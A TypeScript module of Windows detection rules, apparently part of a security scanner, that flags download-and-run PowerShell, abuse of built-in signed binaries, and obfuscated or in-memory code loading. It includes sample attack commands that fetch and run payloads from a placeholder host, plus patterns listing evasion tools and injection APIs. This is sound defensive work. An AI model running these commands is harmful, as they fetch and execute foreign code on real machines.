import { cmd, powershell, ruleOf } from '../examples.ts';
import { pattern } from './pattern.ts';
import type { WindowsRule } from './rule.ts';

const T = 'MITRE ATT&CK ';
const FETCH = String.raw`(?:downloadstring|downloaddata|downloadfile|openread|net\.webclient|invoke-webrequest|invoke-restmethod|xml\.xmldocument|msxml2\.xmlhttp|winhttp|\biwr\b|\birm\b|\bcurl\b|\bwget\b|start-bitstransfer|httpclient)`;
const RUN = String.raw`(?:\biex\b|invoke-expression|\[scriptblock\]::create|invoke-command|\bicm\b|&\s?\(|\.invoke\(|\.\s?\()`;

export const downloadRules: readonly WindowsRule[] = [
  {
    rule: ruleOf('windows.download-and-run', 'code_injection', 'high', 'code fetched from the network and run at once', powershell("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"), powershell('Invoke-WebRequest https://example.com/report.pdf -OutFile report.pdf'), `${T}T1059.001, T1105`),
    literals: ['downloadstring', 'downloaddata', 'downloadfile', 'webclient', 'iex', 'invoke-expression', 'scriptblock]', 'xmlhttp', '.load(', 'openread'],
    pattern: pattern(String.raw`${RUN}…${FETCH}|${FETCH}…\|\s*(?:iex|invoke-expression|cmd|powershell)\b|${FETCH}…;\s?(?:iex|start-process|&)|\.load\(\s*https?:…(?:iex|invoke)|\.execute\s*\|\s*iex|downloadfile\(…\.(?:exe|ps1|dll|bat|scr|hta|vbs)\b`),
  },
  {
    rule: ruleOf('windows.signed-binary-proxy', 'code_injection', 'high', 'a program of Windows made to fetch or run foreign code', cmd('certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe'), cmd('certutil -hashfile setup.exe SHA256'), 'LOLBAS'),
    literals: ['certutil', 'bitsadmin', 'mshta', 'regsvr32', 'rundll32', 'msiexec', 'wmic', 'cmstp', 'installutil', 'msbuild', 'desktopimgdownldr', 'ieexec', 'hh.exe', 'regasm', 'regsvcs', 'odbcconf', 'forfiles', 'pcalua', 'scriptrunner', 'presentationhost', 'mavinject', 'syncappv', 'pubprn', 'xwizard', 'control.exe', 'wscript', 'cscript', 'esentutl', 'expand ', 'extrac32', 'finger', 'certoc', 'appinstaller', 'werfault', 'win32_process'],
    pattern: pattern(
      String.raw`@(certutil)\s…[-/](?:urlcache|verifyctl|url\b)…(?:https?|ftp):|@(certutil)\s…[-/](?:decode|decodehex)\s…\.(?:exe|dll|bat|ps1|vbs|js|hta)\b|@(bitsadmin)\s…/(?:transfer|addfile|setnotifycmdline)…(?:https?:|cmd|powershell|\.exe)|@(mshta)\s…(?:https?:|javascript:|vbscript:|about:|\\\\)|@(regsvr32)\s…(?:/i:\s?\S|scrobj|https?:)|@(rundll32)\s…(?:javascript:|vbscript:|https?:|url\.dll|shell32(?:\.dll)?,\s?shellexec|\\temp\\|users\\public|advpack|ieadvpack|zipfldr|pcwutl|syssetup|setupapi|mshtml|\\\\\S+\\davwwwroot)|@(msiexec)\s…(?:/q\w*|/i|/y|/z)…(?:https?:|\\temp\\|\\\\)|@(wmic)\s…(?:/format:\s?\S*(?:https?:|\.xsl)|process\s+call\s+create)|@(cmstp)\s…/ni|@(installutil)\s…/u\b|@(msbuild)\s…(?:\\temp\\|users\\public|appdata|https?:)|desktopimgdownldr|@(ieexec|hh|appinstaller|presentationhost)\s…https?:|@(regasm|regsvcs)\s…(?:/u\b|\\temp\\|\.dll)|@(odbcconf)\s…regsvr|@(mavinject)\s|@(forfiles|pcalua|scriptrunner)\s…(?:/c|-a|-appvscript)\s…(?:cmd|powershell|\.exe)|syncappvpublishingserver|pubprn\.vbs|@(wscript|cscript)\s…(?:https?:|\\temp\\|users\\public|\\\\\S+\\)|@(finger)\s+\S+@\S+…\||@(werfault)\s…-|win32_process…\bcreate\b`,
    ),
  },
  {
    rule: ruleOf('windows.hidden-code', 'code_injection', 'high', 'PowerShell code that is hidden, loaded from bytes, or put into another process', powershell('[Reflection.Assembly]::Load([Convert]::FromBase64String("TVqQAAMAAAAEAAAA"))'), powershell('[Convert]::FromBase64String("aGVsbG8=") | Set-Content hello.bin'), `${T}T1027, T1620`),
    literals: ['assembly]::load', 'frombase64string', 'virtualalloc', 'createthread', 'getdelegateforfunctionpointer', 'gzipstream', 'deflatestream', 'encodedcommand', 'out-ath', '-e', 'memorystream', 'writeprocessmemory', 'dllimport', '-join', '[char]'],
    pattern: pattern(
      String.raw`assembly\]?::(?:load|loadfile|unsafeloadfrom)\s?\((?:…(?:frombase64|byte\[\]|readallbytes|downloaddata)|\$|\[)|(?:${RUN})…(?:frombase64string|gzipstream|deflatestream|\[char\]|-join)|(?:frombase64string|gzipstream|deflatestream)…\|\s*(?:iex|invoke-expression)|virtualalloc(?:ex)?…|createremotethread|writeprocessmemory|getdelegateforfunctionpointer|out-athpowershellcommandlineparameter|\bsc\s?=\s?\(?\[byte\[\]\]`,
    ),
  },
];
